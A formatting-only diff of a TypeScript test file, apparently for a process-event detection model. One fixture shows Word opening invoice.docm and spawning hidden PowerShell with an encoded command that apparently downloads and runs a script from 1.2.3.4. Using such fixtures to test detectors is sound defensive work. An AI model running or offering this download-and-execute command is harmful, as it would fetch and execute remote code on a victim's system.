@@ -9,7 +9,8 @@ const person = { userId: 'S-1-5-21-1-2-3-1001', integrityLevel: 'High' } as cons
 const events = [
   processStart({
     executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
-    commandLine: 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAuADIALgAzAC4ANAAvAGEAJwApAA==',
+    commandLine:
+      'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAuADIALgAzAC4ANAAvAGEAJwApAA==',
     parentExecutable: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
     parentCommandLine: '"WINWORD.EXE" /n "C:\\Users\\ann\\Downloads\\invoice.docm"',
     ...person,
@@ -68,6 +69,8 @@ describe('explanations of the shipped model', () => {
   });
 
   test('a folder without explanations is refused by name', async () => {
-    await expect(createExplainer(join(directory, '..', 'none'))).rejects.toMatchObject({ code: 'PC_MODEL_EXPLANATION' });
+    await expect(createExplainer(join(directory, '..', 'none'))).rejects.toMatchObject({
+      code: 'PC_MODEL_EXPLANATION',
+    });
   });
 });
